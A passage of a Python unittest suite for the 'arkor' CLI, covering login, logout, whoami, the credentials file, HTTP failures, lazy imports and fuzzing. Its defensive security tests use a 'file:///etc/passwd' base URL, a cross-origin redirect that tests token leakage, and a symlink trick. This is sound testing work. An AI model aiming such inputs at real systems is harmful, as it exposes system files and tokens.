                    self.assertFalse(os.path.exists(self.creds))
                else:
                    self.assertTrue(shown.endswith("Aborted.\n"), shown)
                    self.assertEqual(self.creds_bytes(), before)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_colour_only_on_a_terminal_without_no_color(self) -> None:
        self.write_creds(self.auth0_creds())
        code, shown, _ = self.run_tty(["logout"], ["y"])
        self.assertEqual(code, 0)
        self.assertIn(f"\x1b[32mRemoved {self.creds}.\x1b[0m\n", shown)
        self.write_creds(self.auth0_creds())
        code, shown, _ = self.run_tty(["logout"], ["y"], NO_COLOR="")  # set, even empty, means no colour
        self.assertNotIn("\x1b[", shown)
        self.write_creds(self.auth0_creds())
        proc = self.run_cli("logout", "-y")  # a pipe: never colour
        self.assertEqual(proc.stdout, f"Removed {self.creds}.\n")

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_question_on_stderr_when_stdout_is_redirected(self) -> None:
        # `arkor logout > log` from a terminal: the question must reach the
        # person, not the file.
        import pty

        before = self.write_creds(self.auth0_creds())
        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, MODULE, "logout"],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=slave,
            env=self.env(NO_COLOR="1"),
        )
        os.close(slave)
        try:
            shown = b""
            deadline = time.monotonic() + 20
            while b"[y/N]" not in shown and time.monotonic() < deadline:
                ready, _, _ = select.select([master], [], [], 0.1)
                if ready:
                    shown += os.read(master, 4096)
            self.assertIn(f"Delete {self.creds}? [y/N] ".encode(), shown)
            os.write(master, b"n\n")
            out, _ = proc.communicate(timeout=20)
        finally:
            if proc.poll() is None:
                proc.kill()
            os.close(master)
        self.assertEqual((proc.returncode, out), (0, b"Aborted.\n"))
        self.assertEqual(self.creds_bytes(), before)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_anonymous_question_says_what_is_lost(self) -> None:
        before = self.sign_in_anon()
        code, shown, _ = self.run_tty(["logout"], [""])
        self.assertEqual(code, 0)
        self.assertIn(
            f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] ",
            shown,
        )
        self.assertEqual(self.read_creds(), before)


# ---------------------------------------------------------------------------
# whoami
# ---------------------------------------------------------------------------


class WhoamiTest(Case):
    def test_not_signed_in(self) -> None:
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, NOT_SIGNED_IN, ""))
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_signed_in_anonymously(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token(
            "anon-token-stored",
            user={"id": "u1", "name": "Zo\u00eb"},
            orgs=[{"slug": "first", "id": "o1"}, {"id": "o2"}, {"slug": "third"}],
        )
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertEqual(out, '{\n  "id": "u1",\n  "name": "Zo\u00eb"\n}\nOrgs: first, o2, third\n')
        self.assertEqual(err, "")
        (request,) = self.cloud.requests
        self.assertEqual((request.method, request.path), ("GET", "/v1/me"))
        self.assertEqual(request.headers["authorization"], "Bearer anon-token-stored")
        self.assertEqual(request.headers["x-arkor-client"], f"arkor/{arkor_cli.__version__}")
        self.assertEqual(request.headers["accept"], "application/json")

    def test_output_the_terminal_cannot_encode(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"name": "Zo\u00eb \u7f8e"}, orgs=[{"slug": "caf\u00e9"}])
        proc = self.run_cli("whoami", PYTHONIOENCODING="ascii")
        self.assertEqual(proc.returncode, 0)
        self.assertEqual(proc.stdout, '{\n  "name": "Zo\\xeb \\u7f8e"\n}\nOrgs: caf\\xe9\n')

    def test_no_orgs_no_orgs_line(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        code, out, _ = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))

    def test_auth0_and_oauth_modes_use_the_access_token(self) -> None:
        for mode in ("auth0", "oauth"):
            with self.subTest(mode=mode):
                self.cloud.requests.clear()
                self.write_creds(self.auth0_creds(mode=mode, token=f"access-{mode}"))
                self.cloud.add_token(f"access-{mode}", user={"id": mode}, orgs=[])
                code, out, _ = self.run_main("whoami")
                self.assertEqual((code, out), (0, f'{{\n  "id": "{mode}"\n}}\n'))
                self.assertEqual(self.cloud.requests[0].headers["authorization"], f"Bearer access-{mode}")

    def test_base_url_from_the_file_unless_the_variable_is_set(self) -> None:
        with FakeCloudApi() as other:
            other.add_token("anon-token-stored", user={"id": "from-file"}, orgs=[])
            self.sign_in_anon(base=other.url + "/")
            code, out, _ = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
            self.assertEqual((code, out), (0, '{\n  "id": "from-file"\n}\n'))
            self.assertEqual(len(other.requests), 1)
            self.assertEqual(self.cloud.requests, [])
            code, out, _ = self.run_main("whoami")  # ARKOR_CLOUD_API_URL wins
            self.assertEqual(len(other.requests), 1)
            self.assertEqual(len(self.cloud.requests), 1)

    def test_failed_fetch_is_informational(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        anon_hint = (
            "Anonymous tokens are bound to the device that minted them. `arkor login --anonymous`"
            " mints a new anonymous identity (a new workspace).\n"
        )
        for status in (401, 403, 404, 500, 503):
            with self.subTest(status=status):
                self.cloud.script("GET", "/v1/me", Answer(status, {"error": "nope"}))
                code, out, err = self.run_main("whoami")
                self.assertEqual(
                    (code, out, err),
                    (
                        0,
                        f"Failed to fetch /v1/me ({status}). Token may be expired.\n",
                        anon_hint if status == 401 else "",
                    ),
                )
        self.assertEqual(self.creds_bytes(), before)

    def test_unsupported_sdk(self) -> None:
        self.sign_in_anon()
        gate = {
            "error": "sdk_version_unsupported",
            "currentVersion": "0.1.0",
            "supportedRange": ">=1.2.0",
            "upgrade": {"npm": "npm i arkor@latest"},
        }
        cases = [
            (
                Answer(426, gate),
                f"Arkor SDK 0.1.0 is no longer supported by the cloud API (supported: >=1.2.0). {COPIED_FIX}\n",
            ),
            (Answer(426, body=b""), f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"),
            (
                Answer(426, body=b"<html>upgrade</html>"),
                f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n",
            ),
            (Answer(426, {"error": "other"}), f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"),
        ]
        for answer, message in cases:
            with self.subTest(message):
                self.cloud.script("GET", "/v1/me", answer)
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (1, "", message))

    def test_deprecation_warning_after_the_result(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        v = arkor_cli.__version__
        identity = {"user": {"id": "u1"}, "orgs": []}
        cases = [
            ({"Deprecation": "true"}, f"Arkor SDK {v} is deprecated (current: {v}). {COPIED_FIX}\n"),
            (
                {
                    "Deprecation": "true",
                    "Warning": '299 - "Upgrade \\"soon\\"" "Sat, 01 Nov 2026 00:00:00 GMT"',
                    "Sunset": "Tue, 01 Dec 2026 00:00:00 GMT",
                },
                f'Upgrade "soon" (current: {v}). Cutoff: Tue, 01 Dec 2026 00:00:00 GMT. {COPIED_FIX}\n',
            ),
            ({"Deprecation": "true", "Warning": "plain words"}, f"plain words (current: {v}). {COPIED_FIX}\n"),
            ({"Deprecation": "false", "Warning": '299 - "x"'}, ""),
        ]
        for headers, message in cases:
            with self.subTest(headers=headers):
                self.cloud.script("GET", "/v1/me", Answer(200, identity, headers=headers))
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', message))

    def test_deprecation_also_after_a_failure(self) -> None:
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(426, body=b"", headers={"Deprecation": "true"}))
        code, _, err = self.run_main("whoami")
        v = arkor_cli.__version__
        self.assertEqual(code, 1)
        self.assertEqual(
            err,
            f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"
            f"Arkor SDK {v} is deprecated (current: {v}). {COPIED_FIX}\n",
        )


class BadAnswersTest(Case):
    """Whatever the server does, one clear line and a status, never a crash."""

    def setUp(self) -> None:
        super().setUp()
        self.sign_in_anon()
        self.before = self.creds_bytes()

    def tearDown(self) -> None:
        self.assertEqual(self.creds_bytes(), self.before, "whoami changed the credentials file")
        super().tearDown()

    def whoami_fails(self, message: str, **env: str | None) -> None:
        code, out, err = self.run_main("whoami", **env)
        self.assertEqual((code, out, err), (1, "", message + "\n"))

    def test_wrongly_shaped_bodies(self) -> None:
        cases = [
            (
                Answer(200, body=b"<html><h1>Welcome</h1></html>"),
                "Unexpected answer from GET /v1/me (200): not JSON: <html><h1>Welcome</h1></html>",
            ),
            (Answer(200, body=b""), "Unexpected answer from GET /v1/me (200): not JSON: (empty body)"),
            (
                Answer(200, body=b"\xff\xfe\x00"),
                "Unexpected answer from GET /v1/me (200): not JSON: \ufffd\ufffd\\u0000",
            ),
            (Answer(200, json_body=[]), "Unexpected answer from GET /v1/me (200): not a JSON object."),
            (Answer(200, {"user": "ada"}), "Unexpected answer from GET /v1/me user (200): not a JSON object."),
            (Answer(200, {"orgs": []}), "Unexpected answer from GET /v1/me user (200): not a JSON object."),
            (
                Answer(200, {"user": {}, "orgs": "o"}),
                "Unexpected answer from GET /v1/me (200): orgs is not a list of objects.",
            ),
            (
                Answer(200, {"user": {}, "orgs": [1]}),
                "Unexpected answer from GET /v1/me (200): orgs is not a list of objects.",
            ),
        ]
        for answer, message in cases:
            with self.subTest(message):
                self.cloud.script("GET", "/v1/me", answer)
                self.whoami_fails(message)

    def test_long_bodies_are_shortened_in_messages(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, body=b"x" * 5000))
        code, _, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertEqual(err, "Unexpected answer from GET /v1/me (200): not JSON: " + "x" * 199 + "\u2026\n")

    def test_five_mib_body(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": "' + b"a" * (5 * 1024 * 1024) + b'"}'))
        self.whoami_fails(
            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it."
        )

    def test_body_cap_stops_reading_early(self) -> None:
        # A server that promises 100 MiB and stalls after 2: arkor must stop at
        # the cap at once, not wait for the rest (which would time out).
        self.cloud.script(
            "GET", "/v1/me", Answer(200, body=b"a" * (2 * 1024 * 1024), content_length=100 * 1024 * 1024, hold=60)
        )
        self.whoami_fails(
            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it.",
            ARKOR_HTTP_TIMEOUT="5",
        )

    def test_connection_closed_mid_body(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"id"', content_length=1000))
        self.whoami_fails(
            f"Could not reach {self.cloud.url}/v1/me: the connection closed before the whole answer arrived"
        )

    def test_connection_refused(self) -> None:
        url = f"http://127.0.0.1:{free_port()}"
        self.whoami_fails(f"Could not reach {url}/v1/me: Connection refused", ARKOR_CLOUD_API_URL=url)

    def test_failing_proxy_is_named(self) -> None:
        port = free_port()
        for variable in ("HTTP_PROXY", "http_proxy"):
            with self.subTest(variable=variable):
                code, out, err = self.run_main("whoami", **{variable: f"http://user:secret@127.0.0.1:{port}"})
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"Could not reach {self.cloud.url}/v1/me: Connection refused (through the proxy"
                    f" http://127.0.0.1:{port} from HTTP_PROXY; set NO_PROXY=127.0.0.1 to go direct)\n",
                )
                self.assertNotIn("secret", err)
        # NO_PROXY sends it direct, and the answer comes.
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        code, out, _ = self.run_main("whoami", HTTP_PROXY=f"http://127.0.0.1:{port}", NO_PROXY="127.0.0.1")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))

    def test_unresolvable_host(self) -> None:
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL="http://no-such-host.invalid")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(
            err.startswith("Could not reach http://no-such-host.invalid/v1/me: cannot resolve the host name"), err
        )

    def test_server_that_never_answers(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {}}, delay=60))
        started = time.monotonic()
        self.whoami_fails(f"Could not reach {self.cloud.url}/v1/me: timed out", ARKOR_HTTP_TIMEOUT="2")
        self.assertLess(time.monotonic() - started, 20)  # a hang guard, not a speed claim

    def test_server_that_trickles(self) -> None:
        # A byte every half second never trips the socket timeout; the whole
        # answer must still be bounded by ARKOR_HTTP_TIMEOUT.
        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {"id": "x" * 200}}, trickle=0.5))
        started = time.monotonic()
        self.whoami_fails(f"Could not reach {self.cloud.url}/v1/me: timed out", ARKOR_HTTP_TIMEOUT="2")
        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the body alone would take 110 s

    def test_bad_timeout_setting(self) -> None:
        for raw in ("soon", "0", "-3", "nan", "inf", "1e300"):
            with self.subTest(raw=raw):
                self.whoami_fails(
                    f"ARKOR_HTTP_TIMEOUT must be a positive number of seconds, not {raw!r}.", ARKOR_HTTP_TIMEOUT=raw
                )
        self.assertEqual(self.cloud.requests, [])

    def test_cross_origin_redirect_drops_the_token(self) -> None:
        with FakeCloudApi() as elsewhere:
            elsewhere.add_token("anon-token-stored", user={"id": "stolen"}, orgs=[])
            # 127.0.0.1 and localhost are different origins, as are two ports.
            for target in (elsewhere.url, f"http://localhost:{self.cloud.port}"):
                with self.subTest(target=target):
                    elsewhere.requests.clear()
                    self.cloud.requests.clear()
                    self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"))
                    if target.startswith("http://localhost"):
                        self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"), Answer(401))
                    code, out, _ = self.run_main("whoami")
                    self.assertEqual(code, 0)
                    self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
                    followed = elsewhere.requests if target == elsewhere.url else self.cloud.requests[1:]
                    self.assertEqual(len(followed), 1, "the redirect was not followed")
                    self.assertNotIn("authorization", followed[0].headers)

    def test_same_origin_redirect_keeps_the_token(self) -> None:
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        self.cloud.script("GET", "/v1/me", Answer.redirect("/v1/me"), Answer(200, {"user": {"id": "u1"}, "orgs": []}))
        code, out, _ = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
        second = self.cloud.requests[1]
        self.assertEqual(second.headers["authorization"], "Bearer anon-token-stored")

    def test_bad_base_url_in_the_file(self) -> None:
        data = json.loads(self.before)
        data["arkorCloudApiUrl"] = "file:///etc/passwd"
        self.before = self.write_creds(data)
        self.whoami_fails(
            f"arkorCloudApiUrl in {self.creds} is not an http(s) URL: 'file:///etc/passwd'.", ARKOR_CLOUD_API_URL=None
        )


class CredentialsFileTest(Case):
    def assert_whoami_names_the_file(self, reason: str) -> None:
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, reason + "\n")
        self.assertEqual(self.cloud.requests, [])

    def test_bad_contents_are_named_and_kept(self) -> None:
        valid = {
            "mode": "anon",
            "token": "t-secret",
            "anonymousId": "a",
            "arkorCloudApiUrl": "http://x",
            "orgSlug": "o",
        }
        self.secrets.append("t-secret")
        cases = [
            (b"{not json", "not JSON: Expecting property name enclosed in double quotes at line 1"),
            (b"", "not JSON: Expecting value at line 1"),
            (b"\xff\xfe garbage", "not UTF-8 text"),
            (b"[]", "not a JSON object"),
            (json.dumps({"token": "x"}).encode(), "no mode"),
            (json.dumps(dict(valid, mode="magic")).encode(), "unknown mode 'magic'"),
            (json.dumps(dict(valid, mode=None)).encode(), "unknown mode None"),
            (json.dumps({k: v for k, v in valid.items() if k != "token"}).encode(), "missing token"),
            (json.dumps(dict(valid, orgSlug=3)).encode(), "orgSlug has the wrong type"),
            (json.dumps(dict(self.auth0_creds(), expiresAt="soon")).encode(), "expiresAt has the wrong type"),
            (json.dumps(dict(self.auth0_creds(), expiresAt=True)).encode(), "expiresAt has the wrong type"),
            (
                json.dumps({k: v for k, v in self.auth0_creds().items() if k != "refreshToken"}).encode(),
                "missing refreshToken",
            ),
        ]
        for raw, what in cases:
            with self.subTest(what=what):
                before = self.write_creds(raw)
                if what == "not UTF-8 text":
                    message = f"{self.creds} does not hold valid arkor credentials (not UTF-8 text)."
                else:
                    message = (
                        f"{self.creds} does not hold valid arkor credentials ({what})."
                        " Fix it, or sign in again with `arkor login`."
                    )
                self.assert_whoami_names_the_file(message)
                self.assertEqual(self.creds_bytes(), before)

    def test_directory_in_place_of_the_file(self) -> None:
        os.makedirs(self.creds)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith(f"Cannot read {self.creds}: "), err)
        self.assertTrue(os.path.isdir(self.creds))
        # login cannot replace a directory either: it says so and leaves no temp file
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith(f"Could not write {self.creds}: "), err)
        self.assertTrue(os.path.isdir(self.creds))
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX and hasattr(os, "geteuid") and os.geteuid() != 0, "root reads mode-000 files")
    def test_unreadable_file(self) -> None:
        self.sign_in_anon()
        os.chmod(self.creds, 0)
        self.addCleanup(os.chmod, self.creds, 0o600)
        code, _, err = self.run_main("whoami")
        self.assertEqual((code, err), (1, f"Cannot read {self.creds}: Permission denied.\n"))

    def test_arkor_dir_is_a_plain_file(self) -> None:
        with open(self.arkor_dir, "w") as f:
            f.write("not a directory")
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith(f"Could not create {self.arkor_dir}: "), err)
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertTrue(err.startswith(f"Cannot read {self.creds}: "), err)

    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
    def test_a_symlinked_file_is_replaced_not_written_through(self) -> None:
        os.makedirs(self.arkor_dir)
        victim = os.path.join(self.home, "victim.txt")
        with open(victim, "w") as f:
            f.write("precious")
        os.symlink(victim, self.creds)
        code, _, _ = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        with open(victim) as f:
            self.assertEqual(f.read(), "precious")
        self.assertFalse(os.path.islink(self.creds))
        self.assertEqual(self.read_creds()["mode"], "anon")

    def test_write_failure_leaves_old_file_and_no_temp(self) -> None:
        # The disk fills up half way: the old file must survive whole.
        self.sign_in_anon()
        before = self.creds_bytes()
        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
            code, _out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 1)
        self.assertEqual(err, f"Could not write {self.creds}: No space left on device.\n")
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    def test_interrupted_write_leaves_no_temp(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        with mock.patch.object(os, "replace", side_effect=KeyboardInterrupt):
            code, _, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "chmod semantics")
    def test_chmod_refused_is_only_a_warning(self) -> None:
        real_chmod = os.chmod

        def refuse(path: Any, mode: int, *a: Any, **k: Any) -> None:
            if str(path).endswith(".tmp"):
                raise PermissionError(1, "Operation not permitted")
            real_chmod(path, mode, *a, **k)

        with mock.patch.object(os, "chmod", refuse):
            code, _out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertRegex(err, r"^Could not restrict the permissions of .*\.tmp: Operation not permitted\.\n$")
        self.assertEqual(self.read_creds()["mode"], "anon")

    def test_file_written_by_node_is_read(self) -> None:
        # camelCase fields, "oauth" mode, extra fields and no trailing newline
        data = dict(self.auth0_creds(mode="oauth"), extra={"x": 1})
        self.write_creds(json.dumps(data).encode())
        self.cloud.add_token("access-token-stored", user={"id": "node"}, orgs=[])
        code, out, _ = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "node"\n}\n'))


# ---------------------------------------------------------------------------
# Start-up cost: what is imported when
# ---------------------------------------------------------------------------


class LazyImportTest(unittest.TestCase):
    """Start-up stays cheap: what only the network, the browser and the OAuth
    listener need is not imported by ``import arkor_cli``, nor by the commands
    that never go on the network.

    Nothing is timed. Each check runs a fresh interpreter with -I (no PYTHON*
    variables, no user site-packages) and -S (no site hooks: a .pth file that
    imports one of these modules first, as one on this machine does with
    typing, would hide an eager import), and counts only the modules that
    appeared after the interpreter had started.
    """

    KEPT_OUT = (
        "ssl",
        "urllib.request",
        "http.server",
        "http.client",
        "webbrowser",
        "email",
        "secrets",
        "typing",
        "shutil",
    )

    # argv: repo dir, comma-separated module names, then the arkor arguments
    # ("-" alone: only import). The last line says which of the modules the
    # import and the command brought in.
    RUNNER = (
        "import sys\n"
        "before = set(sys.modules)\n"
        "here, watched, args = sys.argv[1], sys.argv[2].split(','), sys.argv[3:]\n"
        "sys.path.insert(0, here)\n"
        "import arkor_cli\n"
        "status = 0 if args == ['-'] else arkor_cli.main(args)\n"
        "sys.stdout.flush()\n"
        "new = sorted(m for m in watched if m in sys.modules and m not in before)\n"
        "print()\n"
        "print('STATUS:%s LOADED:%s' % (status, ','.join(new)))\n"
    )

    def loaded(self, *args: str, watched: tuple[str, ...] = KEPT_OUT, **extra: str) -> tuple[list[str], str]:
        """The ``watched`` modules that ``arkor <args>`` imported, and its output."""
        home = tempfile.TemporaryDirectory()
        self.addCleanup(home.cleanup)
        env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": home.name, "USERPROFILE": home.name, **extra}
        cmd = [sys.executable, "-I", "-S", "-c", self.RUNNER, HERE, ",".join(watched), *(args or ("-",))]
        proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=home.name, timeout=60, check=False)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        last = proc.stdout.rstrip("\n").rsplit("\n", 1)[-1]
        self.assertTrue(last.startswith("STATUS:0 LOADED:"), proc.stdout + proc.stderr)
        modules = last[len("STATUS:0 LOADED:") :]
        return (modules.split(",") if modules else []), proc.stdout + proc.stderr

    # What the commands that need no file contents and no network do without:
    # the parser (argparse brings gettext, locale and textwrap with it), and
    # json with the re it brings.
    NOT_NEEDED = (*KEPT_OUT, "argparse", "gettext", "json", "re")

    def test_import_alone(self) -> None:
        modules, _ = self.loaded(watched=self.NOT_NEEDED)
        self.assertEqual(modules, [])

    def test_help(self) -> None:
        for argv in (["--help"], ["-h"], ["login", "--help"], ["logout", "-h"], ["whoami", "-h"]):
            with self.subTest(argv=argv):
                modules, output = self.loaded(*argv, watched=self.NOT_NEEDED)
                self.assertIn("usage: arkor", output)
                self.assertEqual(modules, [])

    def test_logout_with_no_file(self) -> None:
        modules, output = self.loaded("logout", watched=self.NOT_NEEDED)
        self.assertIn("No credentials on file.", output)
        self.assertEqual(modules, [])

    def test_whoami_signed_out(self) -> None:
        for argv in (["whoami"], ["whoami", "--json"]):
            with self.subTest(argv=argv):
                modules, output = self.loaded(*argv, watched=self.NOT_NEEDED)
                self.assertIn("Not signed in.", output)
                self.assertEqual(modules, [])

    def test_bare_commands_parse_as_the_parser_would(self) -> None:
        # The shortcut that skips argparse for the commonest command lines
        # (`arkor whoami`, `arkor login --anonymous`, ...) must give exactly
        # what the parser gives.
        for argv in arkor_cli._BARE_COMMANDS:
            with self.subTest(argv=argv):
                self.assertEqual(vars(arkor_cli._bare_args(list(argv))), vars(arkor_cli._parse(list(argv))))
        self.assertIn(("login", "--anonymous"), arkor_cli._BARE_COMMANDS)
        for argv in (["login", "--oauth"], ["login", "--anonymous", "--oauth"], [], ["whoami", "whoami"]):
            self.assertIsNone(arkor_cli._bare_args(argv))

    def test_login_anonymous(self) -> None:
        # The CI sign-in needs HTTP and the file, not the parser, the
        # browser, the listener or the OAuth secrets.
        watched = ("argparse", "gettext", "webbrowser", "http.server", "secrets")
        with FakeCloudApi() as cloud:
            modules, output = self.loaded("login", "--anonymous", watched=watched, ARKOR_CLOUD_API_URL=cloud.url)
        self.assertIn("Signed in anonymously", output)
        self.assertEqual(modules, [])

    def test_the_check_sees_an_import(self) -> None:
        # The check itself works: a command line that needs the parser (an
        # option the shortcut does not know) is seen to load it.
        modules, output = self.loaded("logout", "--force", watched=self.NOT_NEEDED)
        self.assertIn("No credentials on file.", output)
        self.assertIn("argparse", modules)


# ---------------------------------------------------------------------------
# The upgrade command
# ---------------------------------------------------------------------------


class UpgradeCommandTest(unittest.TestCase):
    def setUp(self) -> None:
        self.root = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.root, True)

    def site_packages_file(self) -> str:
        site = os.path.join(self.root, "lib", "python3.11", "site-packages")
        os.makedirs(site)
        return os.path.join(site, "arkor_cli.py")

    def touch(self, name: str) -> None:
        open(os.path.join(self.root, name), "w").close()

    def test_pip(self) -> None:
        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "/venv/bin/python3")
        self.assertEqual(fix, "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.")

    def test_pip_with_spaces_in_the_interpreter_path(self) -> None:
        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "C:\\Program Files\\Python\\python.exe")
        self.assertEqual(fix, 'Run `"C:\\Program Files\\Python\\python.exe" -m pip install --upgrade arkor-cli`.')

    def test_pipx(self) -> None:
        self.touch("pipx_metadata.json")
        self.assertEqual(
            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `pipx upgrade arkor-cli`."
        )

    def test_uv_tool(self) -> None:
        self.touch("uv-receipt.toml")
        self.assertEqual(
            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `uv tool upgrade arkor-cli`."
        )

    def test_debian_dist_packages(self) -> None:
        path = os.path.join(self.root, "dist-packages", "arkor_cli.py")
        self.assertEqual(
            arkor_cli._upgrade_fix(path, self.root, "/usr/bin/python3"),
            "Run `/usr/bin/python3 -m pip install --upgrade arkor-cli`.",
        )

    def test_copied_file(self) -> None:
        path = os.path.join(self.root, "tools", "arkor_cli.py")
        self.assertEqual(arkor_cli._upgrade_fix(path, self.root, "py"), f"Replace {path} with the latest arkor_cli.py.")


class InstalledCopyTest(Case):
    """The upgrade hint as a real installed copy in a real venv computes it."""

    def make_venv(self, marker: str | None) -> str:
        import sysconfig
        import venv

        root = tempfile.mkdtemp(prefix="arkor-venv-")
        self.addCleanup(shutil.rmtree, root, True)
        venv.EnvBuilder(with_pip=False, symlinks=POSIX).create(root)
        purelib = sysconfig.get_path("purelib", vars={"base": root, "platbase": root})
        shutil.copy(MODULE, purelib)
        if marker:
            open(os.path.join(root, marker), "w").close()
        bindir = "Scripts" if os.name == "nt" else "bin"
        return os.path.join(root, bindir, "python.exe" if os.name == "nt" else "python")

    def test_installed_copies(self) -> None:
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
        for marker, command in (
            (None, "{python} -m pip install --upgrade arkor-cli"),
            ("pipx_metadata.json", "pipx upgrade arkor-cli"),
            ("uv-receipt.toml", "uv tool upgrade arkor-cli"),
        ):
            with self.subTest(marker=marker):
                python = self.make_venv(marker)
                proc = subprocess.run(
                    [python, "-m", "arkor_cli", "whoami"],
                    capture_output=True,
                    text=True,
                    env=self.env(),
                    cwd=self.home,  # not HERE: the venv's copy must be the one imported
                    timeout=60,
                    check=False,
                )
                self._record(proc.stdout, proc.stderr)
                self.assertEqual(proc.returncode, 1)
                expected = command.format(python=python)
                self.assertEqual(proc.stderr, f"Arkor SDK is no longer supported by the cloud API. Run `{expected}`.\n")


# ---------------------------------------------------------------------------
# Pipes
# ---------------------------------------------------------------------------


class PipeTest(Case):
    @unittest.skipUnless(POSIX and shutil.which("head"), "needs a POSIX shell and head")
    def test_broken_pipe_ends_quietly(self) -> None:
        self.sign_in_anon()
        big = {f"field{i}": "v" * 100 for i in range(3000)}  # ~330 KB, beyond any pipe buffer
        self.cloud.add_token("anon-token-stored", user=big, orgs=[])
        proc = subprocess.run(
            f'"{sys.executable}" "{MODULE}" whoami | head -n 1',
            shell=True,
            capture_output=True,
            text=True,
            env=self.env(),
            timeout=30,
            check=False,
        )
        self._record(proc.stdout, proc.stderr)
        self.assertEqual(proc.stdout, "{\n")
        self.assertEqual(proc.stderr, "")


# ---------------------------------------------------------------------------
# Fuzzing
# ---------------------------------------------------------------------------


class FuzzTest(unittest.TestCase):
    """Seeded, time-bounded fuzzing of what arkor reads from outside itself:
    callback queries and requests, credentials files, and HTTP answers.

    ARKOR_FUZZ_SEED picks the inputs (a fixed default, so that every run is
    the same run) and ARKOR_FUZZ_SECONDS bounds each of the three targets
    (default 3, shared by the target's methods; CI may give more). A broken
    invariant fails with the seed, the iteration and the input (the first
    ARKOR_FUZZ_SHOW characters of its repr, default 300): enough to write the
    regression test. Standard library only: ``random`` and sockets.
    """

    _SEED = "20251129"
    _SECONDS = 3.0
    # A budget that runs fewer rounds than this has tested nothing.
    _MIN_ITERATIONS = 20
    # How much of an input a failure message quotes.
    _SHOWN = 300

    # The words a refused callback may carry, spelled out (see _Callback.decide).
    _AUTH_FAILED = "Authentication failed: "
    _MISSING = "Missing code/state in callback"
    _MISMATCH = "State mismatch \u2014 aborting to prevent CSRF"

    def setUp(self) -> None:
        self.seed = os.environ.get("ARKOR_FUZZ_SEED", "").strip() or self._SEED
